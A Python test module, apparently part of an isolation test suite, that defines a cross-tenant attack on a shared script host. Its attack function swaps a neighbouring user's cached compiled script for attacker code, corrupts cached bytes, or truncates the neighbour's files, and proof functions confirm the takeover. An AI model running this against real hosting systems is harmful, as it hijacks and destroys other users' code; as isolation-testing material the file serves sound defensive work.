"""Put one's own code in the place of the neighbour's compiled script."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

ONE_STEP = True


OF_OURS = True


def attack(given: Given) -> object:
    import os

    path = f"{given.neighbour}/witness.py".encode()
    code = compile(f"print('Content-Type: text/plain\\n\\n{given.token}')", "witness", "exec")
    for interpreter in given.reach("Embedded"):
        codes = interpreter._codes
        for key in [key for key in codes if key[0] == path]:
            codes[key] = code
            return "the code that this worker keeps"
    for jobs in given.reach("Jobs"):
        if path in jobs.compiled:
            jobs.compiled[path] = b"no code"
            return "a copy of what a worker keeps"
    for interpreter in given.reach("EmbeddedOnce"):
        place = f"{interpreter._directory}/{given.neighbour_uid}"
        for name in os.listdir(place):
            os.truncate(f"{place}/{name}", 0)
        return "the files of the neighbour's code"
    raise PermissionError("no code of the neighbour's is in the script's process")


def missing(scene: Scene) -> str | None:
    return None if scene.visit().status == 200 else "the neighbour was not served before"


def proof(scene: Scene) -> str | None:
    answer = scene.visit()
    if scene.token.encode() in answer.body:
        return "the neighbour's address is answered by the attacker's code"
    return None if answer.status == 200 else f"the neighbour's script is answered {answer.status}"
